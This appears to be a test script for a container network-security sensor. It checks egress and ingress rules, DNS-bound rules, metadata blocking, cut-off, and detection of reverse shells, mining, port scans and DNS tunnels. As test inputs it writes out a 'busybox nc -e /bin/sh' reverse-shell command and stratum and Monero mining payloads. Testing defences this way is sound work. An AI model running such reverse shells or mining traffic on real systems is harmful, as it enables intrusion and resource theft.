#!/bin/sh
# network.sh [TIER]: egress, ingress, names, cut-off and what packets give away. Two network namespaces of our own and a
# cable: `out` holds the server, `in` the containers. Every refusal has its twin that passes.
. "$(dirname "$0")/lib.sh"
image
cp "$B/test/vm/net" "$T/image/net"
NS_OUT=bho$$ NS_IN=bhi$$ S=10.88.1.1 C=10.88.1.2
ip netns add $NS_OUT && ip netns add $NS_IN || exit 1
trap 'ip netns del $NS_OUT; ip netns del $NS_IN; kill $server 2>/dev/null' EXIT
ip -n $NS_OUT link add veth0 type veth peer name veth0 netns $NS_IN
for x in "$NS_OUT $S" "$NS_IN $C"; do
    set -- $x "$@"
    ip -n $1 addr add $2/24 dev veth0; ip -n $1 link set veth0 up; ip -n $1 link set lo up
    shift 2
done
ip -n $NS_OUT addr add 10.88.1.3/24 dev veth0
ip -n $NS_OUT addr add 169.254.169.254/32 dev veth0
ip -n $NS_IN route add default via $S
nsenter --net=/run/netns/$NS_OUT "$B/test/vm/net" serve 0.0.0.0 >"$T/server" 2>&1 &
server=$!
NETNS=/run/netns/$NS_IN
sensor_start "$@" || exit 1
# Cgroup programs that a kernel does not take are told to whoever asks for them; there is no more to see then.
case $(tool policy "$(id_of none)" enforce egress.allow=$S 2>&1) in
*"are not in force"*)
    echo "skip network on $(uname -r): it does not take the cgroup programs, and says so"
    checks=1
    sensor_stop
    return 0 2>/dev/null || exit 0
    ;;
esac

try() { # NAME SETTINGS -- CALL...: what CALL says in a fresh enforcing container
    n=$1 s=$2
    shift 3
    tool policy "$(id_of "$n")" "${MODE:-enforce}" $s
    run "$n" /net "$@" 2>&1 | head -1
}
told() { # NAME CONTROL OUTCOME: events
    grep -c "control=$2 .*outcome=$3 .*id=$(id_of "$1" | cut -c1-12)" "$T/events"
}
E=egress.allow

# addresses, ports, protocols
check "tcp: allowed" "$(try t1 $E=10.88.0.0/16:7000/tcp -- tcp $S 7000)" ok
check "tcp: other port" "$(try t2 $E=10.88.0.0/16:7000/tcp -- tcp $S 7001)" "refused 1"
check "tcp: other address" "$(try t3 $E=10.88.1.3:7000 -- tcp $S 7000)" "refused 1"
check "tcp: no rules" "$(try t4 raw=off -- tcp $S 7000)" ok
check "tcp: two that overlap" "$(try t5 "$E=10.88.0.0/16:7001 $E=10.88.1.1:7000" -- tcp $S 7001)" ok
check "tcp: denied within allowed" "$(try t6 "$E=10.88.0.0/16 egress.deny=10.88.1.1:7000-7002" -- tcp $S 7002)" "refused 1"
check "tcp: mapped address" "$(try t7 $E=10.88.1.3 -- mapped $S 7000)" "refused 1"
check "tcp: mapped address, allowed" "$(try t8 $E=$S -- mapped $S 7000)" ok
check "tcp: fast open" "$(try t9 $E=10.88.1.3 -- fastopen $S 7000)" "refused *"
check "tcp: fast open, allowed" "$(try t10 $E=$S -- fastopen $S 7000)" ok
check "udp: sendto" "$(try u1 $E=$S:7000/tcp -- udp $S 7000)" "refused 1"
check "udp: sendto, allowed" "$(try u2 $E=$S:7000/udp -- udp $S 7000)" ok
check "udp: connected" "$(try u3 $E=$S:7000/tcp -- connected $S 7000)" "refused 1"
check "icmp: not allowed" "$(try i1 "$E=$S:7000" -- icmp $S)" "refused 1"
check "icmp: allowed" "$(try i2 "$E=$S/icmp" -- icmp $S)" ok
check "raw: refused" "$(try r1 raw=block -- raw)" "refused 1"
check "raw: left alone" "$(try r2 raw=off -- raw)" ok
check "loopback: not judged" "$(try l1 $E=none -- from 7000 127.0.0.1 x)" ok
check "own namespace, 0.0.0.0" "$(try l2 $E=none -- from 7000 0.0.0.0 x)" ok
check "audit: let through" "$(MODE=audit try a1 $E=none -- tcp $S 7000)" ok
at_least "audit: told" "$(told a1 egress detected)" 1
at_least "refusal: told" "$(told t2 egress prevented)" 1
at_least "raw: told" "$(told r1 network.raw prevented)" 1

# metadata, bad addresses
check "metadata: refused" "$(try m1 metadata=block -- tcp 169.254.169.254 7000)" "refused 1"
check "metadata: allowed by a rule" "$(try m2 "metadata=block $E=169.254.169.254" -- tcp 169.254.169.254 7000)" ok
echo "10.88.1.3/32 # somebody" >"$T/bad"
tool bad "$T/bad"
check "bad address: refused" "$(try b1 known_bad=block -- tcp 10.88.1.3 7000)" "refused 1"
check "bad address: its neighbour" "$(try b2 known_bad=block -- tcp $S 7000)" ok
: >"$T/bad"
tool bad "$T/bad"
check "bad address: no longer" "$(try b3 known_bad=block -- tcp 10.88.1.3 7000)" ok

# names: bound by what the resolver answered to us
D="resolver=$S $E=dns:a-10-88-1-1.example:7000"
check "name: asked, then allowed" "$(try d1 "$D" -- dns a-10-88-1-1.example $S $S 7000)" ok
check "name: upper case" "$(try d2 "$D" -- dns A-10-88-1-1.EXAMPLE $S $S 7000)" ok
check "name: not asked" "$(try d3 "$D" -- tcp $S 7000)" "refused 1"
check "name: other port" "$(try d4 "$D" -- dns a-10-88-1-1.example $S $S 7001)" "refused 1"
check "name: another name" "$(try d5 "$D" -- dns b-10-88-1-1.example $S $S 7000)" "refused 1"
check "name: pattern" "$(try d6 "resolver=$S $E=dns:*.example" -- dns b-10-88-1-1.example $S $S 7001)" ok
check "name: pattern does not match itself" "$(try d7 "resolver=$S $E=dns:*.b-10-88-1-1.example" -- dns b-10-88-1-1.example $S $S 7001)" "refused 1"
check "name: answered by another server" "$(try d8 "resolver=10.88.1.9 $E=$S:53 $E=dns:a-10-88-1-1.example" -- dns a-10-88-1-1.example $S $S 7000)" "refused 1"
check "name: forged answer is not sent" "$(try d9 "resolver=$C $E=dns:a.example $E=$S" -- from 53 $S x)" "refused 1"
check "name: port 53 of ours otherwise" "$(try d10 "resolver=$S $E=dns:a.example $E=$S" -- from 53 $S x)" ok

# ingress: the server's namespace is the client
served() { # NAME SETTINGS SOURCE: is a listener in a container reached from SOURCE?
    tool policy "$(id_of "$1")" enforce $2
    run "$1" /net listen 7100 >"$T/$1.out" 2>&1 &
    pid=$!
    n=0
    until [ -s "$T/$1.out" ] || [ $n -gt 100 ]; do n=$((n + 1)); busybox usleep 50000; done
    case $(head -1 "$T/$1.out") in ok) nsenter --net=/run/netns/$NS_OUT "$B/test/vm/net" tcp $C 7100;; *) head -1 "$T/$1.out";; esac
    oci kill "$(id_of "$1")" KILL 2>/dev/null
    wait $pid
}
check "ingress: allowed" "$(served in1 ingress.allow=$S:7100/tcp)" ok
check "ingress: another source" "$(served in2 ingress.allow=10.88.1.3:7100/tcp)" silent
at_least "ingress: told" "$(told in2 ingress prevented)" 1
check "ingress: no rules" "$(served in3 raw=off)" ok
check "ingress: egress rules do not matter for answers" "$(served in4 "$E=none ingress.allow=10.88.0.0/16")" ok
check "ingress: port nobody may reach is not bound" "$(served in5 ingress.allow=10.88.0.0/16:80/tcp)" "refused 1"

# a rule that changes, a cut
kept() { # NAME CHANGE...: a connection that lives, then CHANGE, then it must die
    n=$1
    shift
    tool policy "$(id_of "$n")" enforce $E=$S
    run "$n" /net keep $S 7000 >"$T/$n.out" 2>&1 &
    pid=$!
    k=0
    until [ -s "$T/$n.out" ] || [ $k -gt 100 ]; do k=$((k + 1)); busybox usleep 50000; done
    "$@"
    wait $pid
    tr '\n' ' ' <"$T/$n.out"
}
check "policy changes under a connection" "$(kept k1 tool policy "$(id_of k1)" enforce $E=10.88.1.3)" "ok silent *"
check "cut off" "$(kept k2 tool cut "$(id_of k2)" on)" "ok silent *"
check "cut off: a new one" "$(tool cut "$(id_of k3)" on; try k3 raw=off -- tcp $S 7000)" "refused 1"
check "cut off: loopback too" "$(tool cut "$(id_of k4)" on; try k4 raw=off -- from 7000 127.0.0.1 x)" "refused 1"
check "cut lifted" "$(tool cut "$(id_of k5)" on; tool cut "$(id_of k5)" off; try k5 raw=off -- tcp $S 7000)" ok

# shells that obey a connection
check "shell on a socket" "$(try h1 shells=block -- relay socket $S 7000)" killed
check "shell on pipes" "$(try h2 shells=block -- relay pipe $S 7000)" killed
check "shell on a socket pair" "$(try h3 shells=block -- relay pair $S 7000)" killed
check "shell on pipes, no connection" "$(try h5 shells=block -- relay pipe $S 0)" ran
check "shell with a command, its output ours" "$(try h6 shells=block -- relay pipe $S 7000 "exit 42")" ran
check "shell let be" "$(try h7 shells=off -- relay socket $S 7000)" ran
at_least "shell: told" "$(told h2 network.shells killed)" 1
tool policy "$(id_of h8)" enforce shells=block
check "nc -e" "$(run h8 /bin/busybox nc $S 7000 -e /bin/sh -c "exit 42" >/dev/null 2>&1; echo $?)" 137
tool policy "$(id_of h9)" enforce shells=block
check "nc alone" "$(echo x | run h9 /bin/sh -c "echo x | busybox nc -w 1 $S 7000" 2>/dev/null)" x

# contents and counts
P='{"id":1,"method":"mining.subscribe","params":["miner/1.0"]}'
X='{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"wallet","pass":"x","agent":"miner/6"}}'
check "stratum" "$(try p1 mining=block -- send $S 7000 "$P")" silent
check "monero's pools" "$(try p2 mining=block -- send $S 7000 "$X")" silent
check "other JSON" "$(try p3 mining=block -- send $S 7000 '{"id":1,"method":"login","params":{"user":"x"}}')" ok
at_least "stratum: told" "$(told p1 network.mining prevented)" 1
check "scan of ports" "$(try s1 scans=block -- scan $S 100 160)" "refused 1"
check "some ports" "$(try s2 scans=block -- scan $S 100 110)" ok
at_least "scan: told" "$(told s1 network.scans prevented)" 1
check "DNS tunnel" "$(try n1 tunnels=block -- names $S 60 60)" "refused 1"
check "many short names" "$(try n2 tunnels=block -- names $S 60 20)" ok
check "few long names" "$(try n3 tunnels=block -- names $S 15 60)" ok
at_least "DNS tunnel: told" "$(told n1 network.tunnels prevented)" 1
sensor_stop
